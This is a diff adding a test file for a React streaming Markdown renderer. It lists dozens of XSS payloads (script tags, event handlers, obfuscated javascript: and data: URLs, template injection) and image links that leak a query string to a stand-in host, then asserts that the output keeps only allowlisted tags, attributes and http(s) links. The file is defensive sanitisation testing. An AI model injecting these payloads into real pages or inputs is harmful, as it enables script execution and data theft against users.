@@ -1,0 +1,156 @@
+import { renderToStaticMarkup } from "react-dom/server";
+import { describe, expect, test } from "vitest";
+import { StreamingMarkdown } from "./streaming-markdown.tsx";
+
+function draw(text: string, streaming = false): string {
+  return renderToStaticMarkup(<StreamingMarkdown text={text} streaming={streaming} />);
+}
+
+const hostile: string[] = [
+  "<script>alert(1)</script>",
+  "<img src=x onerror=alert(1)>",
+  "<svg/onload=alert(1)>",
+  "<iframe srcdoc='<script>alert(1)</script>'>",
+  "text <b onmouseover=alert(1)>b</b>",
+  "</div></main><script>alert(1)</script>",
+  "<!--><script>alert(1)</script>-->",
+  "<![CDATA[<script>alert(1)</script>]]>",
+  "<style>*{background:url(//x.example)}</style>",
+  "<base href=//x.example>",
+  "<meta http-equiv=refresh content=0;url=//x.example>",
+  "[a](javascript:alert(1))",
+  "[a](JaVaScRiPt:alert(1))",
+  "[a](java\tscript:alert(1))",
+  "[a](<java\nscript:alert(1)>)",
+  "[a](&#106;avascript:alert(1))",
+  "[a](&#x6A&#x61vascript&colon;alert(1))",
+  "[a](\\javascript:alert(1))",
+  "[a](\u0001javascript:alert(1))",
+  "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+  "[a](data:image/svg+xml,<svg/onload=alert(1)>)",
+  "[a](vbscript:msgbox(1))",
+  "[a](file:///etc/passwd)",
+  "[a](blob:https://x.example/1)",
+  "[a](about:blank)",
+  "[a](view-source:https://x.example)",
+  "[a](mailto:a@x.example)",
+  "[a]: javascript:alert(1)\n\n[a]",
+  "[a][b]\n\n[b]: <javascript:alert(1)> 't'",
+  "<javascript:alert(1)>",
+  "<data:text/html,<script>alert(1)</script>>",
+  "![a](javascript:alert(1))",
+  "![a](data:image/svg+xml;base64,PHN2Zz4=)",
+  "![a](data:image/png;base64,iVBORw0KGgo=)",
+  "![leak](https://x.example/?q=secret)",
+  "![leak][x]\n\n[x]: https://x.example/?q=secret",
+  "![a](//x.example/p.png)",
+  "![<img src=x onerror=alert(1)>](x)",
+  '[a](https://x.example "onmouseover=alert(1)")',
+  "[a](https://x.example/\"onmouseover='alert(1)')",
+  "`<script>alert(1)</script>`",
+  '```"><script>alert(1)</script>\ncode</code></pre><script>alert(1)</script>\n```',
+  "```<img/src=x/onerror=alert(1)>\n```",
+  "~~~ javascript onload=alert(1)\n<script>alert(1)</script>\n~~~",
+  "    <script>alert(1)</script>",
+  "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|",
+  "# <script>alert(1)</script>",
+  "> <script>alert(1)</script>",
+  "- [ ] <script>alert(1)</script>",
+  "1. <svg onload=alert(1)>",
+  "$<script>alert(1)</script>$",
+  "$$\n\\href{javascript:alert(1)}{x}\n$$",
+  "$\\includegraphics{javascript:alert(1)}$",
+  "$\\htmlData{onclick=alert(1)}{x}$",
+  "```mermaid\ngraph TD\nA[<img src=x onerror=alert(1)>]\n```",
+  "&lt;script&gt;alert(1)&lt;/script&gt;",
+  "&#60;script&#62;alert(1)",
+  "\\<script>alert(1)\\</script>",
+  "**<script>**alert(1)</script>",
+  "[<img src=x onerror=alert(1)>](https://x.example)",
+  "[[a](javascript:alert(1))](javascript:alert(2))",
+  "{{constructor.constructor('alert(1)')()}}",
+  "__proto__ [__proto__] [constructor]\n\n[__proto__]: https://x.example",
+  "\u202ejavascript:alert(1)",
+  "<a href=javascript:alert(1)>x</a>",
+  "<x onclick=alert(1) style=position:fixed;inset:0>",
+];
+
+const allowedTags =
+  /^(?:div|p|a|ul|ol|li|h[1-6]|blockquote|hr|br|strong|em|s|code|pre|span|button|table|thead|tbody|tr|th|td|input)$/;
+const allowedAttributes =
+  /^(?:class|lang|href|target|rel|title|start|type|disabled|checked|aria-label|aria-live|aria-pressed|role|tabindex|dir)$/i;
+
+/** Reads React's own output, in which text is escaped, so every `<` begins a tag. */
+function expectHarmless(html: string): void {
+  for (const [, name = "", rest = ""] of html.matchAll(/<\/?([^\s>/]+)([^>]*)>/g)) {
+    expect(name).toMatch(allowedTags);
+    for (const [, attribute = "", value = ""] of rest.matchAll(/([^\s=/"]+)(?:="([^"]*)")?/g)) {
+      expect(attribute).toMatch(allowedAttributes);
+      if (attribute === "href") expect(value).toMatch(/^https?:\/\//);
+    }
+  }
+}
+
+describe("StreamingMarkdown", () => {
+  test.each(hostile)("draws nothing that runs, loads or leaves: %j [REND-012]", (text) => {
+    expectHarmless(draw(text));
+    for (let cut = 1; cut <= text.length; cut++) expectHarmless(draw(text.slice(0, cut), true));
+  });
+
+  test("links open elsewhere and tell their host; https is put before what has no scheme [REND-012]", () => {
+    expect(draw("[a](x.example/b) http://y.example/ <https://z.example/>")).toBe(
+      draw("[a](https://x.example/b) <http://y.example/> https://z.example/"),
+    );
+    expect(draw("[a](x.example)")).toContain(
+      '<a href="https://x.example/" target="_blank" rel="noopener noreferrer nofollow" title="x.example">a</a>',
+    );
+    expect(draw("[a](mailto:a@x.example) [b](/c) [d](#e)")).toContain("<p>a b d</p>");
+  });
+
+  test("a picture is a link with its words and host, never fetched", () => {
+    const html = draw("![a cat](https://x.example/cat.png) ![b](data:image/png;base64,AA==)");
+    expect(html).not.toContain("<img");
+    expect(html).toMatch(
+      /<a href="https:\/\/x\.example\/cat\.png"[^>]*><span[^>]*>a cat \(x\.example\)<\/span><\/a>/,
+    );
+  });
+
+  test("blocks become their elements [REND-001] [REND-002]", () => {
+    const html = draw(
+      "# T\n\na **b** *c* ~~d~~ `e`\n\n3. x\n4. y\n   - z\n\n- [x] done\n- [ ] open\n\n|h|\n|-:|\n|c|\n\n> q\n\n---\n\n```js\nlet a;\n```\n",
+    );
+    for (const part of [
+      "<h1>T</h1>",
+      "<p>a <strong>b</strong> <em>c</em> <s>d</s> <code>e</code></p>",
+      'start="3"',
+      'aria-label="Done"',
+      'aria-label="To do"',
+      "<thead><tr><th",
+      "<tbody><tr><td",
+      "<blockquote><p>q</p></blockquote>",
+      "<hr/>",
+      ">js</span>",
+      "let a;\n",
+    ])
+      expect(html).toContain(part);
+  });
+
+  test("formulas stand in their own places, money does not [REND-003]", () => {
+    const html = draw("$x^2$ costs $5 and $10, \\(y\\)\n\n$$\nz\n$$");
+    expect(html.match(/x\^2|<span[^>]*>y<|<span[^>]*>z</g)).toHaveLength(3);
+    expect(html).toContain("costs $5 and $10, ");
+  });
+
+  test("Chinese blocks say so", () => {
+    expect(draw("# 标题\n\n这是中文 with a word\n\nEnglish 字")).toBe(
+      draw("# 标题\n\n这是中文 with a word\n\nEnglish 字", true),
+    );
+    expect(draw("这是中文。")).toContain('<p lang="zh">');
+    expect(draw("English.")).toContain("<p>English.</p>");
+  });
+
+  test("once complete, drawing whole and drawing in parts are one", () => {
+    const text = "a [x]\n\n- b\n- c\n\n  d\n\n[x]: x.example\n";
+    expect(draw(text)).toContain('href="https://x.example/"');
+  });
+});
